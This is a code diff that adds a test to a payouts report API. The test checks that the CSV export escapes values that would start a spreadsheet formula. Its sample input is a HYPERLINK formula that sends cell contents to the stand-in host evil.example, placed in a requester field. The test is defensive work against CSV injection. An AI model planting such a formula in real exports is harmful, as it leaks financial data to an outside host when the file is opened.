@@ -933,6 +933,33 @@ def test_a_fee_currency_nothing_was_refunded_in_gets_no_totals_line(
     assert [row[5] for row in totals] == ["USD"]
 
 
+def test_the_csv_shows_text_that_would_start_a_formula_as_text(
+    client: TestClient, program_id: str
+) -> None:
+    """A token's sub (or a trader id from Stripe metadata, a bank reference) written as a
+    formula would run when finance opens the CSV in a spreadsheet: it gets a leading
+    apostrophe there; the JSON keeps it as recorded (console audit)."""
+    trader_id = uid("trader-")
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+    payout = request_payout(
+        client,
+        funded_account(client, program_id, trader_id),
+        headers("finance", sub=formula),
+    )
+    approved_at = datetime.fromisoformat(approve(client, payout["payout_id"])["approved_at"])
+    period = {
+        "from": approved_at.isoformat(),
+        "to": (approved_at + timedelta(microseconds=1)).isoformat(),
+    }
+    (row,) = client.get("/v1/reports/payouts", params=period, headers=FINANCE).json()["rows"]
+    assert row["requested_by"] == formula
+    text = client.get("/v1/reports/payouts", params={**period, "format": "csv"}, headers=FINANCE)
+    rows = list(csv.reader(io.StringIO(text.text)))
+    named = dict(zip(rows[0], rows[1], strict=True))
+    assert named["requested_by"] == "'" + formula
+    assert named["profit"] == "1000.00"
+
+
 def test_a_date_period_of_the_report_includes_the_whole_to_day(
     client: TestClient, program_id: str
 ) -> None:
